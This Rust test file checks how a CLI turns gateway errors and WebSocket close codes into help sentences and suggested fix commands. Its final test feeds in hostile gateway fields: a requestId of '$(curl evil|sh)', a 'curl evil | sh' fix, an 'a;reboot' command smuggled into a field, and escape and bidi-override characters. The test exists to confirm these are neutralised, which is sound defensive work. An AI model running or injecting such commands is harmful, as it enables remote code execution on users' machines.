//! The way back over the wire: what a CLI makes of errors and closes, ours and other gateways'.

use super::{words::every_refusal, *};

#[test]
fn every_refusal_survives_the_wire() {
    let vantage = Vantage { profile: Some("work".to_owned()), ..Vantage::default() };
    for refusal in every_refusal() {
        for dialect in [Dialect::V3, Dialect::V4] {
            let wire = refusal.wire(dialect);
            let error = wire.error.map(|error| {
                serde_json::from_str::<ErrorShape>(&serde_json::to_string(&error).unwrap()).unwrap()
            });
            let help = help_from_wire(error.as_ref(), Some(&wire.close), &vantage)
                .unwrap_or_else(|| panic!("{refusal:?} {dialect}"));
            if refusal == Refusal::WorkerClaim && dialect == Dialect::V3 {
                continue;
            }
            assert_eq!(help.cause, refusal.cause(), "{refusal:?} {dialect}");
            let want = refusal.help_for(&vantage);
            if error.is_some() {
                assert_eq!(help.sentence, refusal.help().sentence, "{refusal:?} {dialect}");
            }
            // What the codes do not carry, the command cannot have: the page's origin, the protocol range in
            // protocol 3's words, and what hides behind the words of a mismatch.
            let unsaid = match &refusal {
                Refusal::Origin { .. } | Refusal::ProtocolMismatch { .. } => true,
                Refusal::Unauthorized(failure) => {
                    failure.reason == AuthReason::Placeholder
                        || (failure.reason == AuthReason::ScopeMismatch && dialect == Dialect::V3)
                }
                _ => false,
            };
            if !unsaid {
                assert_eq!(help.fix, want.fix, "{refusal:?} {dialect}");
                assert_eq!(help.place, want.place, "{refusal:?} {dialect}");
            }
        }
    }
}

fn error(text: &str) -> ErrorShape {
    serde_json::from_str(text).unwrap()
}

/// Answers of real gateways, which carry no help of ours.
#[test]
fn other_gateways_are_explained_too() {
    let vantage = Vantage { device: DeviceId::parse(DEVICE), ..Vantage::default() };
    for (text, id, fix) in [
        (
            r#"{"code":"NOT_PAIRED","message":"pairing required","details":{"code":"PAIRING_REQUIRED","requestId":"a6d70856-1689-4017-915c-fade1fd8398a","reason":"not-paired"}}"#,
            "C-01",
            Some("openclaw devices approve a6d70856-1689-4017-915c-fade1fd8398a".to_owned()),
        ),
        (
            r#"{"code":"INVALID_REQUEST","message":"unauthorized: gateway token mismatch (set gateway.remote.token to match gateway.auth.token)","details":{"code":"AUTH_TOKEN_MISMATCH","authReason":"token_mismatch","canRetryWithDeviceToken":true,"recommendedNextStep":"retry_with_device_token"}}"#,
            "C-08",
            Some("openclaw gateway auth-token --show".to_owned()),
        ),
        (
            r#"{"code":"INVALID_REQUEST","message":"unauthorized: gateway token missing (paste in Control UI settings or openclaw doctor --generate-gateway-token; restart)","details":{"code":"AUTH_TOKEN_MISSING","authReason":"token_missing","canRetryWithDeviceToken":false,"recommendedNextStep":"update_auth_configuration"}}"#,
            "C-07",
            Some("openclaw dashboard".to_owned()),
        ),
        (
            r#"{"code":"INVALID_REQUEST","message":"unauthorized: device token mismatch (rotate/reissue device token)","details":{"code":"AUTH_DEVICE_TOKEN_MISMATCH","authReason":"device_token_mismatch","canRetryWithDeviceToken":false,"recommendedNextStep":"update_auth_credentials"}}"#,
            "C-09",
            Some(format!("openclaw devices rotate --device {DEVICE} --role operator")),
        ),
        (
            r#"{"code":"INVALID_REQUEST","message":"device signature expired","details":{"code":"DEVICE_AUTH_SIGNATURE_EXPIRED","reason":"device-signature-stale"}}"#,
            "C-06",
            Some("sudo timedatectl set-ntp true".to_owned()),
        ),
        (
            r#"{"code":"INVALID_REQUEST","message":"protocol mismatch","details":{"code":"PROTOCOL_MISMATCH","clientMinProtocol":3,"clientMaxProtocol":3,"expectedProtocol":4,"minimumProbeProtocol":3}}"#,
            "C-16",
            Some("openclaw update".to_owned()),
        ),
        (
            r#"{"code":"UNAVAILABLE","message":"gateway starting; retry shortly","retryable":true,"retryAfterMs":500,"details":{"reason":"startup-sidecars"}}"#,
            "C-24",
            None,
        ),
        (
            r#"{"code":"FORBIDDEN","message":"missing scope: operator.pairing","details":{"code":"MISSING_SCOPE","missingScope":"operator.pairing","requiredScopes":["operator.pairing"]}}"#,
            "C-17",
            Some("openclaw devices list".to_owned()),
        ),
        (
            r#"{"code":"INVALID_REQUEST","message":"missing scope: operator.read"}"#,
            "C-17",
            Some("openclaw devices list".to_owned()),
        ),
        (
            r#"{"code":"INVALID_REQUEST","message":"unauthorized"}"#,
            "C-29",
            Some("openclaw doctor".to_owned()),
        ),
    ] {
        let help = help_from_wire(Some(&error(text)), None, &vantage).unwrap();
        assert_eq!((help.cause.id().as_str(), help.fix), (id, fix), "{text}");
        assert!(help.sentence.ends_with('.'), "{}", help.sentence);
    }
    assert_eq!(
        help_from_wire(
            Some(&error(r#"{"code":"INVALID_REQUEST","message":"unknown requestId"}"#)),
            None,
            &vantage
        ),
        None
    );
}

#[test]
fn a_close_alone_is_enough() {
    let vantage = Vantage::default();
    for (code, reason, id) in [
        (1008, "pairing required: device is not approved yet (requestId: r-1)", Some("C-01")),
        (1008, "pairing required", Some("C-01")),
        (1008, "unauthorized: gateway password missing (provide gateway auth password)", Some("C-11")),
        (1008, "slow consumer", Some("C-23")),
        (1002, "protocol mismatch", Some("C-16")),
        (1009, "", Some("C-22")),
        (1012, "service restart", Some("C-24")),
        (4001, "client invalidated: device removed", Some("C-26")),
        (4001, "gateway auth changed", Some("C-26")),
        (4001, "client invalidated: connection closed by an admin", Some("C-26")),
        (1000, "", None),
        (1006, "", None),
    ] {
        let help = help_from_wire(None, Some(&Close::new(code, reason)), &vantage);
        assert_eq!(help.map(|help| help.cause.id()).as_deref(), id, "{code} {reason}");
    }
}

#[test]
fn a_hostile_gateway_cannot_put_words_on_the_command_line() {
    let hostile = error(
        r#"{"code":"NOT_PAIRED","message":"pairing required","details":{"code":"PAIRING_REQUIRED","requestId":"$(curl\u0020evil|sh)","reason":"not-paired","help":{"cause":"C-01","sentence":"Run this \u001b[31m\u202e now.","fix":"curl evil | sh"}}}"#,
    );
    // The id is not even an id, so the command is the list.
    let help = help_from_wire(Some(&hostile), None, &Vantage::default()).unwrap();
    assert_eq!(help.fix.as_deref(), Some("openclaw devices list"));
    assert_eq!(help.sentence, "Run this \\u{1b}[31m\\u{202e} now.");
    let semi = error(
        r#"{"code":"NOT_PAIRED","message":"pairing required","details":{"code":"PAIRING_REQUIRED","requestId":"a;reboot","reason":"not-paired"}}"#,
    );
    let help = help_from_wire(Some(&semi), None, &Vantage::default()).unwrap();
    assert_eq!(help.fix.as_deref(), Some("openclaw devices approve <requestId>"));
}
